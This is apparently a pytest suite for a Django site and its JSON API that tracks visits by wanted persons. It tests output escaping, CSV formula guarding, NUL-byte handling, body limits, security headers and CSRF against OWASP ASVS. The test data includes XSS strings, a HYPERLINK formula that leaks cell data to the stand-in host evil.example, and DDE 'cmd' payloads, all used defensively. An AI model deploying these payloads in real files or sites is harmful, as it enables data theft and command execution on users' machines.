"""Hostile input (issue 10, point 8): each reproduction of the issue, and the OWASP ASVS
level 2 items that apply to a public Django site with a JSON API (input validation,
output encoding, session management, security headers, CSRF), as tests."""

from __future__ import annotations

import csv
import datetime
import io
import json
import xml.etree.ElementTree as ET

import pytest
from django.test import Client
from rest_framework.authtoken.models import Token
from rest_framework.test import APIClient

from core.models import Source
from tests.factories import make_person, make_state, make_visit, make_warrant
from visits import flagging
from visits.models import Visit

pytestmark = pytest.mark.django_db

ATOM = "{http://www.w3.org/2005/Atom}"
PLACE = '<script>alert("place")</script>'
PUBLISHER = "<b onmouseover=alert(1)>"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def token_client(user) -> APIClient:
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.get_or_create(user=user)[0].key}")
    return client


@pytest.fixture
def hostile_incident():
    """A published incident in Tajikistan whose stored text is markup and formulas."""
    make_state("TJK", "Tajikistan", entry_into_force=datetime.date(2002, 7, 1))
    person = make_person("vladimir-putin", "Vladimir Putin")
    make_warrant(person)
    tajikistan = make_state("TJK")
    visit = make_visit(
        person,
        tajikistan,
        start=datetime.date(2025, 10, 8),
        place="Dushanbe",
        occasion=FORMULAS[0],
        host_justification=FORMULAS[1],
    )
    make_visit(
        person,
        tajikistan,
        start=datetime.date(2025, 11, 8),
        place=FORMULAS[2],
        host_justification=FORMULAS[3],
    )
    Source.objects.update(publisher=PUBLISHER)
    flagging.evaluate_visits(list(Visit.objects.values_list("pk", flat=True)))
    # A change to the place: the Changes feed describes it (before → after).
    visit.refresh_from_db()
    visit.place = PLACE
    visit.save()
    flagging.evaluate_visits([visit.pk], cause=f"correction: the place is {PLACE}")
    assert Visit.objects.filter(verdict__code="non_compliance").count() == 2
    return visit


# --- Output encoding: feeds -----------------------------------------------------------


def feed_elements(response):
    assert response.status_code == 200, response.content[:300]
    return ET.fromstring(response.content).iter()


@pytest.mark.parametrize(
    "url",
    ["/incidents/feed/", "/states/TJK/feed/", "/persons/vladimir-putin/feed/", "/changes/feed/"],
)
def test_stored_markup_reaches_a_feed_reader_as_text(client, hostile_incident, url):
    """Issue 10: `<script>alert("place")</script>` in `<summary type="html">` was markup to a
    feed reader. Whatever an element holds, an element whose text has markup is text."""
    seen = ""
    for element in feed_elements(client.get(url)):
        text = element.text or ""
        seen += text
        if "<" in text:
            assert element.get("type", "text") == "text", (element.tag, element.attrib, text)
        if element.tag in (f"{ATOM}summary", f"{ATOM}content"):
            assert element.get("type") == "text", element.attrib
    assert PLACE in seen or PUBLISHER in seen, seen  # shown, as the characters they are


# --- CSV formula injection in the site's downloads ------------------------------------


def download_rows(response) -> list[dict]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize(
    "url",
    ["/visits.csv?host=TJK", "/incidents.csv?host=TJK", "/api/v1/visits/?format=csv&host=TJK"],
)
def test_formula_cells_in_downloads_are_guarded(client, hostile_incident, url):
    """Issue 10: /visits.csv?host=TJK wrote `=HYPERLINK(...)`, `+cmd|...`, `-2+3` as they
    are. Every cell of every download that a spreadsheet would run starts with `'`."""
    response = client.get(url)
    rows = download_rows(response)  # the site's and the API's downloads both stream
    assert rows
    cells = [cell for row in rows for cell in row.values() if cell]
    assert not [c for c in cells if c[0] in "=+-@\t\r"], cells
    guarded = [c for c in cells if c.startswith("'")]
    assert PLACE in cells  # markup is not a formula: left as it is
    for formula in FORMULAS:
        assert "'" + formula in guarded, (formula, cells)


# --- NUL and malformed path parameters: 400/404 before the database -------------------


@pytest.mark.parametrize(
    "url",
    [
        "/search/?q=%00",
        "/search/?q=abc%00def",
        "/states/%00/",
        "/states/M%00G/",
        "/states/%00/feed/",
        "/persons/%00/",
        "/persons/vladimir%00putin/feed/",
        "/visits/%00/",
        "/visits/?host=%00",
        "/visits/?person=%00",
        "/visits.csv?host=M%00G",
        "/incidents/?verdict=%00",
        "/states/?q=%00",
        "/changes/?page=%00",
        "/language/%00/",
        "/search/?%00=1",
    ],
)
def test_nul_in_a_page_address_is_a_4xx(client, url):
    """Issue 10: psycopg's DataError on NUL answered 500."""
    response = client.get(url)
    assert response.status_code in (400, 404), (url, response.status_code)


@pytest.mark.parametrize(
    "url",
    [
        "/api/v1/states/?name=%00",
        "/api/v1/states/M%00G/",
        "/api/v1/visits/?host=%00",
        "/api/v1/visits/%00/",
        "/api/v1/persons/?q=%00",
        "/api/v1/incidents/?cursor=%00",
        "/api/v1/visits/?ordering=%00",
    ],
)
def test_nul_in_an_api_address_is_a_json_4xx(client, url):
    response = client.get(url)
    assert response.status_code in (400, 404), (url, response.status_code)
    assert response["Content-Type"].startswith("application/json")
    assert set(response.json()["error"]) == {"code", "message", "fields"}


def test_nul_is_refused_before_the_database(client, django_assert_num_queries):
    with django_assert_num_queries(0):
        assert client.get("/search/?q=%00").status_code == 400
        assert client.get("/states/M%00G/").status_code == 400


# --- The API's body limits ------------------------------------------------------------


def test_deeply_nested_json_is_the_apis_400(reporter):
    """Issue 10: a reporter's POST of 100,000 nested arrays raised RecursionError (500)."""
    body = "[" * 100_000 + "]" * 100_000
    for path in ("/api/v1/reports/", "/api/v1/visits/"):
        response = token_client(reporter).post(path, body, content_type="application/json")
        assert response.status_code == 400, (path, response.status_code)
        assert response.json()["error"]["code"] == "parse_error"


def test_a_30_mb_body_is_the_apis_json_error(reporter):
    """Issue 10: a 30 MB body answered Django's HTML 400."""
    body = json.dumps({"notes": "x" * (30 * 1024 * 1024)})
    response = token_client(reporter).post(
        "/api/v1/reports/", body, content_type="application/json"
    )
    assert response.status_code in (400, 413)
    assert response["Content-Type"].startswith("application/json")
    assert response.json()["error"]["code"] == "too_large"


def test_a_30_mb_body_to_a_read_only_endpoint_is_json_too():
    response = APIClient().post(
        "/api/v1/states/", "x" * (30 * 1024 * 1024), content_type="application/json"
    )
    assert 400 <= response.status_code < 500
    assert response["Content-Type"].startswith("application/json")


@pytest.mark.parametrize(
    ("body", "key"),
    [
        (
            '{"person": "vladimir-putin", "host": "MNG", "start": "2024-09-02", '
            '"place": "Ulaanbaatar", "status": "occurred", "outcome": "not_arrested", '
            '"sources": [{"url": "https://example.org/a", "publisher": "Example"}], '
            '"person": "benjamin-netanyahu"}',
            "person",
        ),
        (
            '{"person": "vladimir-putin", "sources": [{"url": "https://example.org/a", '
            '"publisher": "Example", "url": "https://example.org/b"}]}',
            "url",
        ),
        ('{"notes": {"a": [{"b": {"deep": 1, "deep": 2}}]}}', "deep"),
    ],
    ids=["top-level", "in-a-source", "deeper"],
)
def test_a_key_given_twice_is_the_apis_400_naming_it(reporter, body, key):
    """A repeated key was merged, the last one kept: a body naming Putin first and
    Netanyahu last filed against Netanyahu, while a reader of the body sees Putin."""
    from visits.models import Report

    for path in ("/api/v1/reports/", "/api/v1/visits/"):
        response = token_client(reporter).post(path, body, content_type="application/json")
        assert response.status_code == 400, (path, response.status_code)
        error = response.json()["error"]
        assert error["code"] == "parse_error"
        assert error["message"] == (
            f"JSON parse error - the key {key!r} is given twice in one object: give each key once."
        )
    assert not Report.objects.exists()


def test_the_same_key_in_two_objects_is_no_repetition(reporter):
    response = token_client(reporter).post(
        "/api/v1/reports/",
        '{"sources": [{"url": "https://example.org/a"}, {"url": "https://example.org/b"}]}',
        content_type="application/json",
    )
    assert response.status_code == 400
    assert response.json()["error"]["code"] == "invalid"


def test_an_ordinary_report_body_is_still_parsed(reporter):
    response = token_client(reporter).post("/api/v1/reports/", {"sources": [[[[]]]]}, format="json")
    assert response.status_code == 400
    assert response.json()["error"]["code"] != "parse_error"


# --- Importer messages: always `file:line: column: message` ---------------------------


def import_errors(path) -> list[str]:
    from dataset.importer import ImportFailed, import_dataset

    with pytest.raises(ImportFailed) as failure:
        import_dataset(path)
    errors = failure.value.errors
    for error in errors:
        assert IMPORTER_MESSAGE.match(error), error
    return errors


IMPORTER_MESSAGE = __import__("re").compile(r"^[a-z]+\.csv:[1-9][0-9]*: [^:\s]+: .+$")


def visit_with(**cells) -> list[dict]:
    from tests.dataset.test_importer_rules import VISITS

    return [{**VISITS[0], **cells}, *VISITS[1:]]


def test_a_nul_in_a_cell_is_a_message_not_a_traceback(tmp_path):
    from tests.dataset.test_importer_rules import folder

    path = folder(tmp_path, visits=visit_with(city="Ulaan\x00baatar"))
    assert import_errors(path) == [
        "visits.csv:2: city: contains a NUL character (\\x00), which cannot be stored"
    ]
    assert not Visit.objects.exists()


def test_a_value_longer_than_its_field_is_a_message_from_the_models_max_length(tmp_path):
    from tests.dataset.test_importer_rules import folder

    limit = Visit._meta.get_field("place").max_length
    path = folder(tmp_path, visits=visit_with(city="x" * 300))
    (error,) = import_errors(path)
    assert error.startswith("visits.csv:2: city: ")
    assert f"is 300 characters long; at most {limit} (Visit.place)" in error


def test_a_latin_1_file_names_the_line_and_column_where_decoding_failed(tmp_path):
    from tests.dataset.test_importer_rules import folder

    path = folder(tmp_path, visits=visit_with(city="Ulaanbaatar", occasion="Réunion"))
    text = (path / "visits.csv").read_text(encoding="utf-8")
    (path / "visits.csv").write_bytes(text.encode("latin-1"))
    (error,) = import_errors(path)
    assert error.startswith("visits.csv:2: occasion: not valid UTF-8"), error


def test_a_byte_order_mark_is_read_and_an_unknown_column_named(tmp_path):
    from dataset.importer import FILES, validate
    from tests.dataset.test_importer_rules import VISITS, folder, write_csv

    path = folder(tmp_path)
    write_csv(path, "visits.csv", VISITS, bom=True)
    assert validate(path)[1] == []
    write_csv(path, "visits.csv", VISITS, columns=[*FILES["visits.csv"], "extra"], bom=True)
    assert import_errors(path) == [
        "visits.csv:1: extra: unknown column (data/DICTIONARY.md documents the columns of visits.csv)"
    ]


def test_formula_like_cells_import_with_a_warning(tmp_path):
    from dataset.importer import import_dataset
    from tests.dataset.test_importer_rules import folder

    cells = dict(zip(("city", "occasion", "notes"), FORMULAS, strict=False))
    path = folder(tmp_path, visits=visit_with(**cells, host_justification=FORMULAS[3]))
    report = import_dataset(path)
    formula_warnings = [w for w in report.warnings if "formula" in w]
    assert [w.split(": ")[0:2] for w in formula_warnings] == [
        ["visits.csv:2", "city"],
        ["visits.csv:2", "occasion"],
        ["visits.csv:2", "host_justification"],
        ["visits.csv:2", "notes"],
    ]
    assert Visit.objects.get(slug=visit_with()[0]["id"]).place == FORMULAS[0]


# --- OWASP ASVS level 2: output encoding -----------------------------------------------


def test_stored_markup_is_escaped_on_every_page_that_shows_it(client, hostile_incident):
    """ASVS 5.3.1/5.3.3: templates autoescape; a stored place is never markup on a page."""
    for url in (
        hostile_incident.get_absolute_url(),
        "/visits/?host=TJK",
        "/states/TJK/",
        "/persons/vladimir-putin/",
        "/changes/",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        assert PLACE not in html and PUBLISHER not in html, url
    page = client.get(hostile_incident.get_absolute_url()).content.decode()
    assert "&lt;script&gt;alert(&quot;place&quot;)&lt;/script&gt;" in page


def test_a_reflected_query_is_escaped(client):
    response = client.get("/search/", {"q": '"><script>alert(1)</script>'})
    assert response.status_code == 200
    assert b"<script>alert(1)</script>" not in response.content


def test_api_answers_are_json_with_the_markup_as_a_string(client, hostile_incident):
    """ASVS 5.3.2: JSON is JSON (its content type, nosniff), markup stays a string value."""
    response = client.get(f"/api/v1/visits/{hostile_incident.slug}/")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/json")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response.json()["place"] == PLACE


# --- OWASP ASVS level 2: security headers (14.4) --------------------------------------

HEADER_URLS = [
    "/",
    "/search/?q=putin",
    "/states/",
    "/incidents/feed/",
    "/visits.csv",
    "/api/v1/",
    "/api/v1/states/",
    "/api/v1/nowhere/",  # the API's JSON 404
    "/search/?q=%00",  # refused before any view
    "/no-such-page/",
]


@pytest.mark.parametrize("url", HEADER_URLS)
def test_security_headers_on_pages_and_the_api(client, url):
    response = client.get(url)
    assert response.status_code < 500, url
    csp = response["Content-Security-Policy"]
    directives = {d.split()[0]: d.split()[1:] for d in csp.split(";") if d.strip()}
    assert directives["default-src"] == ["'self'"]
    assert "'unsafe-inline'" not in directives.get("script-src", [])
    assert directives["object-src"] == ["'none'"]
    assert directives["frame-ancestors"] == ["'none'"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Referrer-Policy"] in (
        "same-origin",
        "strict-origin-when-cross-origin",
        "no-referrer",
    )
    assert response.get("X-Frame-Options", "DENY") == "DENY"
    assert response["Content-Type"].split(";")[0] in (
        "text/html",
        "application/json",
        "application/atom+xml",
        "text/csv",
        "text/plain",
    )


def test_pages_forbid_framing_both_ways(client):
    response = client.get("/")
    assert response["X-Frame-Options"] == "DENY"
    assert "frame-ancestors 'none'" in response["Content-Security-Policy"]


# --- OWASP ASVS level 2: session management (3.4) and CSRF (4.2.2) --------------------


def test_the_session_cookie_is_httponly_and_samesite(reporter):
    from django.conf import settings

    client = Client(enforce_csrf_checks=True)
    client.get("/newsroom/sign-in/")
    response = client.post(
        "/newsroom/sign-in/",
        {
            "username": "reporter",
            "password": "a-long-test-password",
            "csrfmiddlewaretoken": client.cookies["csrftoken"].value,
        },
    )
    assert response.status_code == 302, response.status_code
    cookie = client.cookies[settings.SESSION_COOKIE_NAME]
    assert cookie["httponly"] and cookie["samesite"] == "Lax"
    assert int(cookie["max-age"]) <= 24 * 3600
    # Secure in production (the settings follow DJANGO_ENV; `check --deploy` runs there).
    assert settings.SESSION_COOKIE_SECURE == settings.CSRF_COOKIE_SECURE
    csrf = client.cookies["csrftoken"]
    assert csrf["samesite"] == "Lax"


def test_a_session_authenticated_api_write_needs_the_csrf_token(reporter):
    """A browser session must not be a way to write through the API from another site."""
    client = APIClient(enforce_csrf_checks=True)
    client.force_login(reporter)
    response = client.post("/api/v1/reports/", {}, format="json")
    assert response.status_code == 403
    assert response.json()["error"]["code"] == "permission_denied"
    assert "CSRF" in response.json()["error"]["message"]


def test_a_token_api_write_needs_no_cookie_and_carries_none_back(reporter):
    response = token_client(reporter).post("/api/v1/reports/", {}, format="json")
    assert response.status_code == 400
    assert "sessionid" not in response.cookies and "csrftoken" not in response.cookies


def test_the_nul_refusal_speaks_the_readers_language(client):
    response = client.get("/fr/search/?q=%00")
    assert response.status_code == 400
    assert "caractère NUL" in response.content.decode()
    api = client.get("/api/v1/states/?name=%00")
    assert api.json()["error"]["code"] == "invalid_filter"
    # In the address itself, no parameter to name.
    assert client.get("/api/v1/states/M%00G/").json()["error"]["code"] == "invalid"


def test_a_nul_in_a_json_body_is_a_field_error(reporter):
    body = {"person": "vladimir-putin", "host": "MNG", "place": "Ulaan\x00baatar"}
    response = token_client(reporter).post("/api/v1/reports/", body, format="json")
    assert response.status_code == 400
    assert "place" in response.json()["error"]["fields"]


# --- OWASP ASVS level 2: input validation (5.1) ----------------------------------------

HOSTILE_VALUES = ["x" * 5000, "'\\", "%ED%A0%80", "99999999999999999999", "9999-99-99", "%"]


def site_parameters() -> list[str]:
    from front.views import states, visits, warrants

    names = {"page", "sort", "ordering", "facets", "q", "lang", "next"}
    for module in (visits, warrants, states):
        for obj in vars(module).values():
            names |= set(getattr(getattr(obj, "filterset_class", None), "base_filters", ()))
    return sorted(names)


@pytest.mark.parametrize(
    "path",
    [
        "/visits/",
        "/visits.csv",
        "/incidents.json",
        "/persons/",
        "/warrants/",
        "/states/",
        "/search/",
        "/changes/",
    ],
)
def test_hostile_values_in_every_site_parameter_are_never_a_5xx(client, path):
    from urllib.parse import quote

    failures = []
    for name in site_parameters():
        for value in HOSTILE_VALUES:
            raw = value if value.startswith("%") else quote(value)
            status = client.get(f"{path}?{name}={raw}").status_code
            if status >= 500:
                failures.append((name, value[:20], status))
    assert not failures


@pytest.mark.parametrize(
    ("query", "fields"),
    [
        ("host=%00", ["host"]),
        ("host=MNG&person=put%00in&host=%00", ["person", "host"]),
        ("%00=1", ["\ufffd"]),
    ],
)
def test_nul_in_an_api_parameter_is_an_invalid_filter_naming_it(client, query, fields):
    """A NUL was refused with code `invalid` and no field, where every other refused
    parameter is an `invalid_filter` naming it: a client branching on the code missed it."""
    response = client.get(f"/api/v1/visits/?{query}")
    assert response.status_code == 400
    error = response.json()["error"]
    assert error["code"] == "invalid_filter"
    assert list(error["fields"]) == fields
